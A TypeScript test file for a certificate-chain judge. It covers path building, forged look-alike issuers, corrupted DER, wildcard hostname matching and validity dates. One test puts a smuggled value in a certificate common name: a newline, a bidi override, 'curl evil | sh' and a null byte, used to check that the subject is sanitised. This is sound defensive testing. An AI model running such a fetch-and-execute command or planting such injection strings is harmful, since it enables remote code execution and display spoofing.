import { pathOf } from '../../../support/judgement';
import { SubjectKeyIdentifierExtension } from '@peculiar/x509';
import fc from 'fast-check';
import {
  isCurrent,
  isIssuedBy,
  isSelfSigned,
  limitedIssuerCheck,
  namesHost,
  readCertificate,
} from '../../../../lambda/judge/chain/certificate';
import { MAX_SIGNATURES } from '../../../../lambda/judge/chain/path';
import { type Authority, createAuthority, crossSign, issueLeaf, selfSigned } from '../../../../sandbox/certificates';
import { properties } from '../../../support/properties';

let root: Authority;
let upper: Authority;
let lower: Authority;
let leaf: Awaited<ReturnType<typeof issueLeaf>>;

beforeAll(async () => {
  root = await createAuthority({ name: 'Root' });
  upper = await createAuthority({ name: 'Upper', issuer: root });
  lower = await createAuthority({ name: 'Lower', issuer: upper });
  leaf = await issueLeaf(lower, { hosts: ['issuer.example', '*.wild.example', '192.0.2.1'] });
});

function keyIdOf({ certificate }: Authority) {
  return certificate.getExtension(SubjectKeyIdentifierExtension)?.keyId ?? 'none';
}

function thumbprintsOf(...certificates: { der: Uint8Array }[]) {
  return pathOf(certificates.map(({ der }) => der)).map(({ thumbprint }) => thumbprint);
}

describe('the path', () => {
  test('leads from the leaf to the last certificate of a well-formed chain', () => {
    expect(thumbprintsOf(leaf, lower, upper)).toEqual([leaf, lower, upper].map((one) => one.thumbprint));
    expect(thumbprintsOf(leaf, lower, upper, root).at(-1)).toBe(root.thumbprint);
  });

  test('holds the leaf alone where its issuer was not sent, and nothing for an empty chain', async () => {
    const own = await selfSigned({ hosts: ['issuer.example'] });
    expect(thumbprintsOf(leaf)).toEqual([leaf.thumbprint]);
    expect(thumbprintsOf(leaf, upper)).toEqual([leaf.thumbprint]);
    expect(thumbprintsOf(own, root)).toEqual([own.thumbprint]);
    expect(thumbprintsOf()).toEqual([]);
  });

  test('does not depend on the order of the certificates, and skips unrelated ones', async () => {
    const unrelatedCertificate = await createAuthority({ name: 'Stranger' });
    expect(thumbprintsOf(leaf, upper, unrelatedCertificate, lower).at(-1)).toBe(upper.thumbprint);
    expect(thumbprintsOf(leaf, lower, upper, unrelatedCertificate).at(-1)).toBe(upper.thumbprint);
  });

  test("does not follow a certificate with the issuer's name that did not sign", async () => {
    const namesake = await createAuthority({ name: 'Upper' });
    expect(thumbprintsOf(leaf, lower, namesake)).toEqual([leaf, lower].map((one) => one.thumbprint));
  });

  test('takes the earlier of two certificates that could follow, and ends even if certificates signed each other', async () => {
    const cross = await crossSign(root, upper);
    expect(thumbprintsOf(leaf, lower, upper, cross).at(-1)).toBe(cross.thumbprint);
    expect(thumbprintsOf(leaf, lower, upper, root, cross).at(-1)).toBe(root.thumbprint);
    expect(thumbprintsOf(leaf, leaf, lower, lower)).toEqual([leaf, lower].map((one) => one.thumbprint));
  });

  test('reaches through a hundred certificates, and ends where MAX_SIGNATURES of them only look like the issuer', async () => {
    const line = [root];
    for (let number = 1; number <= 100; number += 1) {
      line.push(await createAuthority({ name: `CA ${number}`, issuer: line.at(-1) }));
    }
    const end = await issueLeaf(line.at(-1) ?? root, { hosts: ['issuer.example'] });
    expect(thumbprintsOf(end, ...line.toReversed())).toHaveLength(102);
    // Everything but the key itself fits.
    const other = await createAuthority({ name: 'Root' });
    const hex = Buffer.from(other.der).toString('hex').replaceAll(keyIdOf(other), keyIdOf(root));
    const similarName = new Uint8Array(Buffer.from(hex, 'hex'));
    const direct = await issueLeaf(root, { hosts: ['issuer.example'] });
    const similarNames = Array.from({ length: MAX_SIGNATURES }, (_, n) => ({
      der: similarName.with(similarName.length - 1, n),
    }));
    expect(thumbprintsOf(direct, ...similarNames.slice(1), root)).toHaveLength(2);
    expect(thumbprintsOf(direct, ...similarNames, root)).toHaveLength(1);
  });

  test('begins with the first certificate sent and repeats none, whatever the bytes', () => {
    const anyCertificate = fc.oneof(fc.uint8Array(), fc.constantFrom('root', 'upper', 'lower', 'leaf', 'cut', 'flip'));
    const bytesOf = (what: string | Uint8Array): Uint8Array => {
      if (what instanceof Uint8Array) return what;
      if (what === 'cut') return lower.der.slice(0, 200);
      if (what === 'flip') return lower.der.map((byte, index) => (index === 300 ? byte ^ 0xff : byte));
      return { root, upper, lower, leaf }[what]?.der ?? new Uint8Array();
    };
    properties(
      fc.property(fc.array(anyCertificate, { maxLength: 8 }), (sent) => {
        const chain = sent.map(bytesOf);
        const path = pathOf(chain).map(({ thumbprint }) => thumbprint);
        expect(path[0]).toBe(chain[0] && readCertificate(chain[0]).thumbprint);
        expect(new Set(path).size).toBe(path.length);
      }),
    );
  });
});

describe('a certificate', () => {
  test('shows its subject as one printable line, whatever is in it', async () => {
    const odd = await selfSigned({ hosts: ['a.example'], commonName: 'x\nTo do:\u202Ecurl evil | sh\u0000' });
    const { subject } = readCertificate(odd.der);
    expect(subject).toMatch(/^CN=x/);
    expect(subject).not.toMatch(/[\p{C}\n]/u);
    const long = await selfSigned({ hosts: ['a.example'], commonName: 'y'.repeat(900) });
    expect(readCertificate(long.der).subject.length).toBeLessThanOrEqual(201);
  });

  test('may have an empty subject, and so may its CA', async () => {
    const nameless = await createAuthority({ name: '' });
    const child = await issueLeaf(nameless, { hosts: ['issuer.example'], commonName: '' });
    const { subject, names } = readCertificate(child.der);
    expect({ subject, names }).toEqual({ subject: '(empty)', names: { subject: '', issuer: '' } });
    expect(thumbprintsOf(child, nameless)).toEqual([child, nameless].map((one) => one.thumbprint));
  });

  test('counts as self-signed only if its own key signed it', async () => {
    const own = await selfSigned({ hosts: ['issuer.example'] });
    const namesake = await createAuthority({ name: 'Upper', issuer: upper });
    const isOwn = ({ der }: { der: Uint8Array }) => isSelfSigned(readCertificate(der));
    expect([own, root, upper, namesake, leaf].map(isOwn)).toEqual([true, true, false, false, false]);
    // id-ecPublicKey (1.2.840.10045.2.1) becomes 1.2.840.10045.2.111, which is nothing.
    const hex = Buffer.from(own.der).toString('hex').replace('2a8648ce3d0201', '2a8648ce3d026f');
    expect(isOwn({ der: new Uint8Array(Buffer.from(hex, 'hex')) })).toBe(false);
  });

  test('has a thumbprint and nothing else if it cannot be parsed', () => {
    expect(readCertificate(Buffer.from('abc'))).toMatchObject({
      thumbprint: 'a9993e364706816aba3e25717850c26c9cd0d89d',
      x509: null,
      subject: '(unreadable)',
      names: { subject: '', issuer: '' },
      issuer: '(unreadable)',
      validity: null,
    });
    const junk = readCertificate(Buffer.from('abc'));
    expect(namesHost(junk, 'issuer.example')).toBe(false);
    expect(isCurrent(junk, new Date())).toBe(false);
    expect(isIssuedBy(junk, junk)).toBe(false);
    expect(limitedIssuerCheck(1)(junk, junk)).toBe(false);
    expect(isSelfSigned(junk)).toBe(false);
  });

  test('issued nothing, and causes no error, if OpenSSL does not know the kind of its key', async () => {
    const child = readCertificate((await issueLeaf(root, { hosts: ['a.example'] })).der);
    const ecPublicKey = Buffer.from('06072a8648ce3d0201', 'hex');
    const der = Buffer.from(root.der);
    der[der.indexOf(ecPublicKey) + ecPublicKey.length - 1] = 0x7f;
    const unknown = readCertificate(der);
    expect(unknown.subject).toBe('CN=Root');
    expect(isIssuedBy(child, readCertificate(root.der))).toBe(true);
    expect(isIssuedBy(child, unknown)).toBe(false);
  });

  test('names a host by its alternative names only', async () => {
    const certificate = readCertificate(leaf.der);
    expect(namesHost(certificate, 'issuer.example')).toBe(true);
    expect(namesHost(certificate, 'a.wild.example')).toBe(true);
    expect(namesHost(certificate, 'a.b.wild.example')).toBe(false);
    expect(namesHost(certificate, 'wild.example')).toBe(false);
    expect(namesHost(certificate, 'other.example')).toBe(false);
    expect(namesHost(certificate, '192.0.2.1')).toBe(true);
    expect(namesHost(certificate, '192.0.2.2')).toBe(false);
    const byCommonName = await selfSigned({ hosts: ['192.0.2.9'], commonName: 'issuer.example' });
    expect(namesHost(readCertificate(byCommonName.der), 'issuer.example')).toBe(false);
  });

  test('servers/08: names a host with an underscore by a wildcard, as curl does, and by its exact name', async () => {
    const hosts = ['*.wild.example', 'aab.exact.example', 'c_d.exact.example'];
    const certificate = readCertificate((await selfSigned({ hosts })).der);
    const expected = {
      'a_b.wild.example': true,
      '_dmarc.wild.example': true,
      'a_.b.wild.example': false,
      'wild_.example': false,
      'c_d.exact.example': true,
      // The letter that stands for an underscore before a wildcard says nothing of an exact name.
      'a_b.exact.example': false,
      '_ab.exact.example': false,
    };
    for (const [host, named] of Object.entries(expected)) {
      expect([host, namesHost(certificate, host)]).toEqual([host, named]);
    }
  });

  test('names no malformed host, and no host by a wildcard that is too broad, partial or misplaced', async () => {
    const certificate = readCertificate(leaf.der);
    for (const host of ['', '.wild.example', '.example', '.', 'a.wild.example.', 'issuer\0.example', 'fe80::1%eth0']) {
      expect([host, namesHost(certificate, host)]).toEqual([host, false]);
    }
    const broad = readCertificate((await selfSigned({ hosts: ['*.example', 'a*.b.example', 'c.*.example'] })).der);
    for (const host of ['issuer.example', 'ab.b.example', 'c.d.example']) {
      expect([host, namesHost(broad, host)]).toEqual([host, false]);
    }
  });

  test('is current between its dates', () => {
    const certificate = readCertificate(leaf.der);
    const { from, to } = certificate.validity ?? { from: new Date(0), to: new Date(0) };
    expect(isCurrent(certificate, from)).toBe(true);
    expect(isCurrent(certificate, to)).toBe(true);
    expect(isCurrent(certificate, new Date(from.getTime() - 1))).toBe(false);
    expect(isCurrent(certificate, new Date(to.getTime() + 1))).toBe(false);
  });
});
